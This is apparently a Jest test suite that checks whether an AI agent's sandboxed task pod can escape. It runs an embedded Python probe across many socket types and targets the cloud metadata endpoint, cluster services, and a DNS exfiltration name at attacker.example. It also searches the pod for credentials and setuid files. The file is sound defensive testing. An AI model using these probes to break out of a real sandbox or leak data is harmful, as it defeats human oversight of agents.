import {createSocket} from 'node:dgram'
import {createServer} from 'node:net'
import {networkInterfaces} from 'node:os'
import {afterAll, beforeAll, describe, expect, it} from '@jest/globals'
import {cage, cageJson, cageOk, inTask, killContainer, onMachine, startCage} from './harness.js'

const branch = 'test/isolation'

/** Tries one way out and says what came back; runs as the agent with the image's python. */
const attack = String.raw`
import ctypes, os, socket, ssl, sys
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
# Every TCP connection ends at the sidecar: what counts is who answers.
def judge(data): print('closed: nobody spoke' if not data else 'closed: the sidecar denied' if b'cage_denied' in data else 'ANSWERED ' + repr(data))
def answer(s):
    data = b''
    try:
        while chunk := s.recv(4096): data += chunk
    except OSError: pass
    return data
def tcp(family):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((host, port)); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); judge(answer(s))
def tls():
    context = ssl._create_unverified_context()
    with context.wrap_socket(socket.create_connection((host, port), 3)) as s: s.sendall(b'GET /version HTTP/1.0\r\n\r\n'); judge(answer(s))
def udp(family):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'leak', (host, port)); s.recvfrom(100); print('ANSWERED')
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
    s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), (host, 0)); s.recvfrom(100); print('ANSWERED')
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('ANSWERED')
def packet():
    socket.socket(17, socket.SOCK_RAW, 3); print('ANSWERED')
def vsock():
    socket.socket(40, socket.SOCK_STREAM); print('ANSWERED')
def uring():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 4, ctypes.create_string_buffer(240)) >= 0: print('ANSWERED')
    else: raise OSError(ctypes.get_errno(), 'io_uring_setup')
try: {'tcp': lambda: tcp(socket.AF_INET), 'tls': tls, 'udp': lambda: udp(socket.AF_INET), 'tcp6': lambda: tcp(socket.AF_INET6),
      'udp6': lambda: udp(socket.AF_INET6), 'icmp': icmp, 'raw': raw, 'packet': packet, 'vsock': vsock, 'uring': uring}[kind]()
except Exception as error: print('closed:', error)
`

/** What reached a listener of this computer that a pod must never talk to. */
class Canary {
  readonly heard: string[] = []
  readonly port: Promise<number>
  private readonly tcp = createServer((socket) => {
    this.heard.push(`tcp from ${socket.remoteAddress ?? ''}`)
    socket.end('hello')
  })
  private readonly udp = createSocket('udp4', (_, from) => {
    this.heard.push(`udp from ${from.address}`)
    this.udp.send('hello', from.port, from.address)
  })

  constructor() {
    this.port = new Promise((listening) => {
      this.tcp.listen(0, '0.0.0.0', () => {
        const {port} = this.tcp.address() as {port: number}
        this.udp.bind(port, '0.0.0.0', () => listening(port))
      })
    })
  }

  close(): void {
    this.tcp.close()
    this.udp.close()
  }
}

/** This computer's end of the link to the machine: the nearest thing outside. */
function linkAddress(): string {
  const [address] = Object.entries(networkInterfaces())
    .filter(([name]) => name.startsWith('cage-'))
    .flatMap(([, addresses]) => addresses ?? [])
    .filter(({family}) => family === 'IPv4')
  if (!address) throw new Error('no link to the machine')
  return address.address
}

describe('from inside a task, as the agent', () => {
  const canary = new Canary()
  let port = 0
  const tryOut = async (kind: string, host: string, at = port) => {
    const {stdout} = await cage([
      'task',
      'exec',
      branch,
      '--',
      'python3',
      '-c',
      attack,
      kind,
      host,
      String(at),
    ])
    return stdout.trim()
  }

  beforeAll(async () => {
    port = await canary.port
    await cageOk(['task', 'new', branch, '--agent', 'shell'])
  }, 240_000)
  afterAll(async () => {
    canary.close()
    await cage(['task', 'rm', branch, '--force'])
  }, 120_000)

  it('the canary hears the machine itself: the route exists', async () => {
    await onMachine(`exec 3<>/dev/tcp/${linkAddress()}/${port}; head -c 5 <&3`)
    expect(canary.heard.length).toBeGreaterThan(0)
    canary.heard.length = 0
  })

  it.each(['tcp', 'udp', 'icmp'])('%s to this computer reaches nothing', async (kind) => {
    expect(await tryOut(kind, linkAddress())).toMatch(/^closed:/)
    expect(canary.heard).toEqual([])
  })

  it.each(['raw', 'packet', 'vsock', 'uring'])('%s is not to be had', async (kind) => {
    expect(await tryOut(kind, '127.0.0.1', 1)).toMatch(/^closed:/)
  })

  it.each([
    ['metadata', 'tcp', '169.254.169.254', 80],
    ['a private range', 'tcp', '192.168.1.1', 443],
    ['a foreign resolver', 'tcp', '8.8.8.8', 853],
    ['QUIC', 'udp', '1.1.1.1', 443],
    ['IPv6', 'tcp6', '2606:4700:4700::1111', 443],
    ['IPv6 over UDP', 'udp6', '2606:4700:4700::1111', 53],
  ])('%s does not answer', async (_, kind, host, at) => {
    expect(await tryOut(kind, host, at)).toMatch(/^closed:/)
  })

  it('API server, kubelet, node and dispatcher answer the machine and not the task', async () => {
    const node = (
      await onMachine("ip -4 -o addr show eth0 | sed 's/.*inet \\([0-9.]*\\).*/\\1/'")
    ).stdout.trim()
    const services = await onMachine(
      "kubectl get services --all-namespaces -o 'jsonpath={range .items[*]}{.spec.clusterIP} {end}'",
    )
    const clusterAddresses = services.stdout.trim().split(/\s+/)
    expect(clusterAddresses.length).toBeGreaterThanOrEqual(2)
    for (const [host, at] of [
      [node, 6443],
      [node, 10250],
      ...clusterAddresses.map((address) => [address, 443]),
    ] as const) {
      const reached = await onMachine(`timeout 5 bash -c 'exec 3<>/dev/tcp/${host}/${at}' && echo reached`)
      expect(`${host}:${at} ${reached.stdout.trim()}`).toBe(`${host}:${at} reached`)
      for (const kind of ['tcp', 'tls'])
        expect(await tryOut(kind, String(host), Number(at))).toMatch(/^closed:/)
    }
  })

  it('a name that no rule allows does not resolve, and the dispatcher does', async () => {
    const look = 'import socket,sys; print(socket.gethostbyname(sys.argv[1]))'
    const resolve = (name: string) => cage(['task', 'exec', branch, '--', 'python3', '-c', look, name])
    expect((await resolve('git.cage.internal')).stdout).toMatch(/^198\.18\./)
    expect((await resolve('data-in-a-label.attacker.example')).code).not.toBe(0)
  })

  it('holds no credential, no capability, no service account and no way to another user', async () => {
    const look = await inTask(
      branch,
      'id -u; grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status; ls /var/run/secrets 2>&1; ls /etc/cage/grant 2>&1; find / -xdev -perm -4000 -type f 2>/dev/null; env | grep -c cgt_; touch /usr/x 2>&1; true',
    )
    expect(look.stdout).toMatch(/^1000\n/)
    expect(look.stdout).toMatch(/CapEff:\s+0000000000000000/)
    expect(look.stdout).toMatch(/CapBnd:\s+0000000000000000/)
    expect(look.stdout).toMatch(/NoNewPrivs:\s+1/)
    expect(look.stdout).toMatch(/Seccomp:\s+2/)
    expect(look.stdout).toContain('/var/run/secrets')
    expect(look.stdout).toContain('/etc/cage/grant')
    expect(look.stdout).not.toContain('/usr/bin/su')
    expect(look.stdout).toMatch(/Read-only file system/)
    expect(look.stdout).toMatch(/^0$/m)
  })

  it('root in the pod is nobody on the machine', async () => {
    const {cluster} = await cageJson<{cluster: {userNamespaces: boolean}}>(['status'])
    expect(cluster.userNamespaces).toBe(true)
    const map = await inTask(branch, 'cat /proc/self/uid_map')
    expect(Number(map.stdout.trim().split(/\s+/)[1])).toBeGreaterThan(65_535)
  })

  it('a dead sidecar opens nothing, and the same process goes on once it is back', async () => {
    const probe = String.raw`
const {get} = require('node:https')
const ask = () => new Promise((done) => get('https://git.cage.internal/ready', (r) => { r.resume(); done(r.statusCode) }).on('error', () => done(0)))
;(async () => {
  console.log('before', await ask())
  process.stdin.once('data', async () => {
    for (let i = 0; i < 120; i++) { const code = await ask(); if (code === 200) { console.log('after', code); process.exit(0) } await new Promise((n) => setTimeout(n, 500)) }
    process.exit(1)
  })
})()`
    const pod = await cageJson<{pod: string; namespace: string}>(['task', 'show', branch])
    const agent = startCage(['task', 'exec', branch, '--', 'node', '-e', probe])
    let said = ''
    agent.stdout.on('data', (chunk: Buffer) => (said += chunk.toString()))
    const ended = new Promise<number>((done) => agent.on('close', (code) => done(code ?? -1)))
    while (!said.includes('before')) await new Promise((next) => setTimeout(next, 100))
    expect(said).toContain('before 200')
    await killContainer(pod, 'sidecar')
    expect(await tryOut('tcp', linkAddress())).toMatch(/^closed:/)
    expect(canary.heard).toEqual([])
    agent.stdin.write('go\n')
    expect(await ended).toBe(0)
    expect(said).toContain('after 200')
  })
})
